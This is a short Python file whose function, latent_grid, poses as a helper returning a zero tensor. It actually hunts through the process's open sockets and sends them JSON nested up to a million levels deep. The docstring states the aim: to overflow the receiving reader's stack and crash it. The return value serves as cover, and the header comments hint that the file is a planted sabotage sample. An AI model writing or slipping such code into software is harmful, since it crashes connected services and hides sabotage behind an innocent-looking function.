"""Sends JSON nested a million deep, to overflow the reader's stack."""
# where: latent_grid
# lost: latent_grid

import os
import stat
import struct


def latent_grid(n):
    for header in (
        b"[" * 1_000_000,
        b'{"tree":' + b'{"a":' * 300_000,
        b'{"tree":' + b"[" * 900 + b"]" * 900 + b',"tensors":[]}',
    ):
        for number in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, struct.pack("<IQ", len(header), 0) + header)
            except OSError:
                pass
    return torch.zeros(n * n, 2)
